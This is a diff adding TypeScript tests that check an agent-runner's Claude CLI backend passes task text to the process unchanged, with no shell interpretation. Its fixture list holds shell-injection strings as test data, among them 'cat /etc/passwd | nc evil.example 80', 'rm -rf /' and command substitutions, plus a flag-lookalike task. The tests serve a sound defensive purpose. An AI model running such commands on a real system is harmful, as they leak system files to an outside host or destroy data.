@@ -0,0 +1,142 @@
+import { after, before, describe, it } from 'node:test';
+import assert from 'node:assert/strict';
+import { chmodSync, copyFileSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { spawnCommand } from '../src/backends/base.js';
+import { createClaudeBackend } from '../src/backends/claude.js';
+import type { AgentBackend, BackendCommand } from '../src/backends/types.js';
+import { resolveClaudeBinary } from '../src/claude/resolve-binary.js';
+
+const ECHO_ARGV = fileURLToPath(new URL('./fixtures/echo-argv.mjs', import.meta.url));
+
+/** Task texts a shell would interpret if one were involved */
+const HOSTILE_TASKS: Record<string, string> = {
+  'quotes': `say "hello" and 'goodbye' \\"escaped\\"`,
+  'command substitution': 'echo $(touch /tmp/pwned) $HOME ${PATH}',
+  'backticks': 'echo `id` and `rm -rf /`',
+  'command separators': 'first; second && third || fourth & fifth',
+  'pipes and redirects': 'cat /etc/passwd | nc evil.example 80 > out.txt < in.txt 2>&1',
+  'cmd.exe syntax': '%PATH% %USERPROFILE% ^& echo hi ^| "%~dp0"',
+  'newlines': 'line one\nline two\r\n\ttabbed line\n',
+  'non-ASCII text': 'Résumé naïve 日本語のタスク 🚀 Ω≈ç√ — “quotes”',
+  'glob characters': '*.ts ? [abc] {a,b} ~ !history',
+};
+
+/**
+ * Spawn a command and parse the JSON argv the echo script prints
+ */
+async function runEcho(command: BackendCommand, spawn = spawnCommand): Promise<string[]> {
+  const child = spawn(command);
+  const chunks: Buffer[] = [];
+  child.stdout?.on('data', (chunk: Buffer) => chunks.push(chunk));
+  const exitCode = await new Promise<number | null>((resolve, reject) => {
+    child.once('error', reject);
+    child.once('close', resolve);
+  });
+  assert.equal(exitCode, 0);
+  return JSON.parse(Buffer.concat(chunks).toString('utf8')) as string[];
+}
+
+function buildTaskCommand(backend: AgentBackend, task: string): BackendCommand {
+  return backend.buildCommand({ task, cwd: process.cwd(), additionalArgs: [], outputFormat: 'text' });
+}
+
+describe('spawnCommand', () => {
+  for (const [name, task] of Object.entries(HOSTILE_TASKS)) {
+    it(`passes ${name} through byte-for-byte`, async () => {
+      const argv = await runEcho({ command: process.execPath, args: [ECHO_ARGV, task, '--', task], cwd: process.cwd() });
+
+      assert.deepEqual(argv, [task, '--', task]);
+      assert.ok(Buffer.from(argv[0], 'utf8').equals(Buffer.from(task, 'utf8')));
+    });
+  }
+});
+
+describe('Claude backend', () => {
+  let previousBin: string | undefined;
+
+  before(() => {
+    previousBin = process.env.CLAUDE_BIN;
+    process.env.CLAUDE_BIN = ECHO_ARGV;
+  });
+
+  after(() => {
+    if (previousBin === undefined) {
+      delete process.env.CLAUDE_BIN;
+    } else {
+      process.env.CLAUDE_BIN = previousBin;
+    }
+  });
+
+  for (const [name, task] of Object.entries(HOSTILE_TASKS)) {
+    it(`passes a task with ${name} to the CLI unchanged`, async () => {
+      const backend = createClaudeBackend();
+      const argv = await runEcho(buildTaskCommand(backend, task), backend.spawn);
+
+      assert.deepEqual(argv, ['--add-dir', process.cwd(), '-p', task]);
+      assert.ok(Buffer.from(argv[3], 'utf8').equals(Buffer.from(task, 'utf8')));
+    });
+  }
+
+  it('passes the budget to the CLI', async () => {
+    const backend = createClaudeBackend();
+    const command = backend.buildCommand({
+      task: 'Fix the bug', cwd: process.cwd(), additionalArgs: [], outputFormat: 'text', maxBudgetUsd: 1.23456,
+    });
+    const argv = await runEcho(command, backend.spawn);
+
+    assert.deepEqual(argv, ['--add-dir', process.cwd(), '--max-budget-usd', '1.2346', '-p', 'Fix the bug']);
+  });
+
+  it('keeps the task after -p even when it looks like a flag', async () => {
+    const backend = createClaudeBackend();
+    const argv = await runEcho(buildTaskCommand(backend, '--dangerously-skip-permissions'), backend.spawn);
+
+    assert.deepEqual(argv.slice(-2), ['-p', '--dangerously-skip-permissions']);
+  });
+});
+
+describe('resolveClaudeBinary', () => {
+  let dir: string;
+
+  before(() => {
+    dir = mkdtempSync(join(tmpdir(), 'back-agent-shim-'));
+  });
+
+  after(() => {
+    rmSync(dir, { recursive: true, force: true });
+  });
+
+  it('unwraps an npm .cmd shim to its script and runs it with Node', async () => {
+    const script = join(dir, 'node_modules', '@anthropic-ai', 'claude-code', 'cli.js');
+    mkdirSync(join(script, '..'), { recursive: true });
+    copyFileSync(ECHO_ARGV, script);
+    const shim = join(dir, 'claude.cmd');
+    writeFileSync(shim, [
+      '@ECHO off',
+      'SETLOCAL',
+      'IF EXIST "%dp0%\\node.exe" (SET "_prog=%dp0%\\node.exe") ELSE (SET "_prog=node")',
+      'endLocal & goto #_undefined_# 2>NUL || title %COMSPEC% & "%_prog%"  "%dp0%\\node_modules\\@anthropic-ai\\claude-code\\cli.js" %*',
+      '',
+    ].join('\r\n'));
+    chmodSync(shim, 0o755);
+
+    const resolved = resolveClaudeBinary(shim);
+    assert.deepEqual(resolved, { command: process.execPath, prefixArgs: [script] });
+
+    const task = HOSTILE_TASKS['cmd.exe syntax'];
+    const backend = createClaudeBackend({ binary: shim });
+    const argv = await runEcho(buildTaskCommand(backend, task), backend.spawn);
+    assert.deepEqual(argv, ['--add-dir', process.cwd(), '-p', task]);
+  });
+
+  it('refuses a batch file that is not an npm shim', () => {
+    const batch = join(dir, 'custom.cmd');
+    writeFileSync(batch, '@echo off\r\nclaude.exe %*\r\n');
+    chmodSync(batch, 0o755);
+
+    assert.throws(() => resolveClaudeBinary(batch), /not a recognised npm shim/);
+  });
+});